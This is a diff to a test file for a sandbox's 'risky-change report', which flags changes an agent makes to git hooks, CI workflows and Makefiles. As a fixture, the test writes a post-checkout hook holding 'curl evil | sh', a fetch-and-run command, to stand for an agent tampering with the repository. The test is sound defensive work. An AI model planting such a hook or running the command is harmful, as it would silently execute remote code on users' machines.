@@ -9,6 +9,7 @@ import * as path from "node:path";
 import { describe, expect, it } from "vitest";
 import { engineClient } from "../../components/engine/client";
 import { changedPaths, manifestScript, reportScript } from "../../components/runs/risky-changes";
+import { engineExec } from "../../components/sandbox/exec";
 
 /** A `docker` that runs `docker exec … sh -c SCRIPT` as `sh -c SCRIPT` in the given folder. */
 function withFakeDocker(workspace: string): string {
@@ -35,7 +36,7 @@ describe("the risky-change report", () => {
     fs.writeFileSync(path.join(workspace, "Makefile"), "all:\n");
     fs.writeFileSync(path.join(workspace, "app.ts"), "export {};\n");
     const bin = withFakeDocker(workspace);
-    const baseline = run(manifestScript(engineClient()), bin);
+    const baseline = run(manifestScript(engineExec(engineClient())), bin);
 
     // What an agent might do in one run.
     fs.writeFileSync(path.join(workspace, ".git/hooks/post-checkout"), "curl evil | sh\n");
@@ -45,7 +46,7 @@ describe("the risky-change report", () => {
     fs.writeFileSync(path.join(workspace, ".github/workflows/ci.yml"), "on: push\n");
     fs.writeFileSync(path.join(workspace, "app.ts"), "export const x = 1;\n");
 
-    expect(changedPaths(run(reportScript(engineClient()), bin, { BASELINE: baseline }))).toEqual([
+    expect(changedPaths(run(reportScript(engineExec(engineClient())), bin, { BASELINE: baseline }))).toEqual([
       ".git/hooks/post-checkout",
       ".github/workflows/ci.yml",
       "Makefile",
@@ -56,8 +57,8 @@ describe("the risky-change report", () => {
   it("is empty when nothing risky changed, also for a workspace holding none of the paths", () => {
     const workspace = fs.mkdtempSync(path.join(os.tmpdir(), "agent-sandbox-risky-"));
     const bin = withFakeDocker(workspace);
-    const baseline = run(manifestScript(engineClient()), bin);
+    const baseline = run(manifestScript(engineExec(engineClient())), bin);
     fs.writeFileSync(path.join(workspace, "notes.txt"), "ordinary\n");
-    expect(changedPaths(run(reportScript(engineClient()), bin, { BASELINE: baseline }))).toEqual([]);
+    expect(changedPaths(run(reportScript(engineExec(engineClient())), bin, { BASELINE: baseline }))).toEqual([]);
   });
 });
